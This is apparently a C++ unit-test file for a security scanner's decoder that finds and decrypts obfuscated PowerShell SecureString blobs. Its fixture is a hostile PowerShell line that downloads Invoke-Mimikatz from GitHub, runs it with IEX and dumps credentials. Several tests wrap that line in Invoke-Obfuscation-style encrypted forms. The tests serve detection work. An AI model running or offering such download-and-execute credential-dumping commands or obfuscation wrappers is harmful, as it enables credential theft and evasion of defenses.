#include "decoders/secure_string.h"

#include <openssl/evp.h>

#include <fstream>
#include <random>
#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "simdjson.h"
#include "tests/decoders/test_util.h"

namespace sbscan::decoders {
namespace {

using ::testing::HasSubstr;

// What ConvertFrom-SecureString -Key writes for `plain`.
std::string MakeBlob(std::string_view plain, std::string_view key,
                     std::string_view iv) {
  const std::string utf16 = testing::Utf16le(plain);
  const EVP_CIPHER* cipher = key.size() == 16   ? EVP_aes_128_cbc()
                             : key.size() == 24 ? EVP_aes_192_cbc()
                                                : EVP_aes_256_cbc();
  std::string ct(utf16.size() + 32, '\0');
  int n1 = 0, n2 = 0;
  EVP_CIPHER_CTX* ctx = EVP_CIPHER_CTX_new();
  EVP_EncryptInit_ex(ctx, cipher, nullptr,
                     reinterpret_cast<const unsigned char*>(key.data()),
                     reinterpret_cast<const unsigned char*>(iv.data()));
  EVP_EncryptUpdate(ctx, reinterpret_cast<unsigned char*>(ct.data()), &n1,
                    reinterpret_cast<const unsigned char*>(utf16.data()),
                    static_cast<int>(utf16.size()));
  EVP_EncryptFinal_ex(ctx, reinterpret_cast<unsigned char*>(ct.data()) + n1,
                      &n2);
  EVP_CIPHER_CTX_free(ctx);
  ct.resize(n1 + n2);
  std::string hex;
  char buf[4];
  for (char c : ct) {
    std::snprintf(buf, sizeof(buf), "%02x", uint8_t(c));
    hex += buf;
  }
  const std::string fields = "2|" + testing::Base64Encode(iv) + "|" + hex;
  return std::string(kSecureStringKeyHeader) +
         testing::Base64Encode(testing::Utf16le(fields));
}

std::string KeyList(std::string_view key) {
  std::string out;
  for (size_t i = 0; i < key.size(); ++i) {
    if (i) out += ",";
    out += std::to_string(uint8_t(key[i]));
  }
  return out;
}

std::string RandomBytes(size_t n, std::mt19937& rng) {
  std::string s(n, '\0');
  for (char& c : s) c = static_cast<char>(rng());
  return s;
}

const char kScript[] =
    "IEX (New-Object Net.WebClient).DownloadString('https://raw."
    "githubusercontent.com/x/y/master/Invoke-Mimikatz.ps1'); "
    "Invoke-Mimikatz -DumpCreds";

TEST(SecureStringTest, InvokeObfuscationForms) {
  std::mt19937 rng(4);
  for (size_t key_size : {16, 24, 32}) {
    const std::string key = RandomBytes(key_size, rng);
    const std::string blob = MakeBlob(kScript, key, RandomBytes(16, rng));
    const std::string texts[] = {
        // Out-SecureStringCommand syntaxes.
        "( [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime."
        "InteropServices.Marshal]::SecureStringToBSTR( $('" + blob +
            "'|ConvertTo-SecureString -Key  " + KeyList(key) + ") ))) | IEX",
        "IEX( New-Object Management.Automation.PSCredential ' ', ( '" + blob +
            "' | ConvertTo-SecureString  -K  (" + KeyList(key) +
            ") )).GetNetworkCredential().Password",
        // A key stored in a variable.
        "$k = [byte[]](" + KeyList(key) + ")\n$p = ConvertTo-SecureString -Key "
            "$k -String '" + blob + "'\n[Net.NetworkCredential]::new('', $p)."
            "Password | iex",
    };
    for (const std::string& text : texts) {
      std::vector<SecureStringCandidate> found;
      ASSERT_EQ(FindSecureStrings(text, 8, &found), 1u) << text;
      const SecureStringCandidate& c = found[0];
      EXPECT_EQ(c.kind, SecureStringKind::kAesKey);
      EXPECT_EQ(text.substr(c.begin, c.end - c.begin), blob);
      EXPECT_EQ(c.key, key) << text;
      EXPECT_EQ(text.substr(c.key_begin, c.key_end - c.key_begin),
                KeyList(key));
      std::string plain;
      EXPECT_EQ(DecryptSecureString(blob, c.key, 1 << 20, &plain),
                Outcome::kDecoded);
      EXPECT_EQ(plain, kScript);
    }
  }
}

TEST(SecureStringTest, DecryptsRealInvokeObfuscationBlock) {
  std::ifstream in(std::string(SBSCAN_SHARED_DIR) +
                   "/corpus/jsonl/DeepBlueCLI/evtx/"
                   "Powershell-Invoke-Obfuscation-encoding-menu.jsonl");
  if (!in) GTEST_SKIP() << "corpus not found under " << SBSCAN_SHARED_DIR;
  simdjson::dom::parser parser;
  std::string line;
  int decrypted = 0;
  while (std::getline(in, line)) {
    simdjson::dom::element doc;
    if (parser.parse(line).get(doc) != simdjson::SUCCESS) continue;
    std::string_view text;
    if (doc["ScriptBlockText"].get(text) != simdjson::SUCCESS) continue;
    std::vector<SecureStringCandidate> found;
    FindSecureStrings(text, 8, &found);
    for (const SecureStringCandidate& c : found) {
      ASSERT_EQ(c.key.size(), 24u);
      std::string plain;
      ASSERT_EQ(DecryptSecureString(text.substr(c.begin, c.end - c.begin),
                                    c.key, 1 << 20, &plain),
                Outcome::kDecoded);
      EXPECT_THAT(plain, HasSubstr("Invoke-Mimikatz -DumpCreds"));
      EXPECT_THAT(plain, HasSubstr("IEX (New-Object Net.WebClient)"));
      ++decrypted;
    }
  }
  EXPECT_GE(decrypted, 1);
}

TEST(SecureStringTest, WrongKeyAndBadBlobs) {
  std::mt19937 rng(8);
  const std::string key = RandomBytes(16, rng);
  const std::string blob = MakeBlob(kScript, key, RandomBytes(16, rng));
  std::string out;
  std::string wrong = key;
  wrong[0] ^= 1;
  EXPECT_EQ(DecryptSecureString(blob, wrong, 1 << 20, &out),
            Outcome::kMalformed);  // padding check fails (almost always)
  EXPECT_EQ(DecryptSecureString(blob, key.substr(0, 15), 1 << 20, &out),
            Outcome::kMalformed);
  EXPECT_EQ(DecryptSecureString(blob, "", 1 << 20, &out),
            Outcome::kNotApplicable);
  EXPECT_EQ(DecryptSecureString("01000000d08c9ddf0115d1118c7a00c04fc297eb01",
                                key, 1 << 20, &out),
            Outcome::kNotApplicable);
  EXPECT_EQ(DecryptSecureString(std::string(kSecureStringKeyHeader) + "!!!!",
                                key, 1 << 20, &out),
            Outcome::kMalformed);
  EXPECT_EQ(DecryptSecureString(blob.substr(0, blob.size() - 8), key, 1 << 20,
                                &out),
            Outcome::kMalformed);
  out.clear();
  EXPECT_EQ(DecryptSecureString(blob, key, 20, &out), Outcome::kLimitReached);
  EXPECT_EQ(out, std::string(kScript, 10));
}

TEST(SecureStringTest, DpapiAndMissingKey) {
  const std::string dpapi =
      std::string(kSecureStringDpapiHeader) +
      "0000000a6e0bd1a34bc3d45a2f9c0e7d5b9f1f0000000000200000000000106600";
  const std::string text = "$p = '" + dpapi +
                           "' | ConvertTo-SecureString\n$c = New-Object "
                           "PSCredential('admin', $p)";
  std::vector<SecureStringCandidate> found;
  ASSERT_EQ(FindSecureStrings(text, 8, &found), 1u);
  EXPECT_EQ(found[0].kind, SecureStringKind::kDpapi);
  EXPECT_TRUE(found[0].key.empty());

  std::mt19937 rng(1);
  const std::string blob =
      MakeBlob("secret", RandomBytes(16, rng), RandomBytes(16, rng));
  found.clear();
  ASSERT_EQ(FindSecureStrings("$s = '" + blob + "' | ConvertTo-SecureString "
                              "-Key $unknown",
                              8, &found),
            1u);
  EXPECT_EQ(found[0].kind, SecureStringKind::kAesKey);
  EXPECT_TRUE(found[0].key.empty());
  found.clear();
  EXPECT_EQ(FindSecureStrings("ConvertTo-SecureString 'P@ss' -AsPlainText "
                              "-Force",
                              8, &found),
            0u);
}

}  // namespace
}  // namespace sbscan::decoders
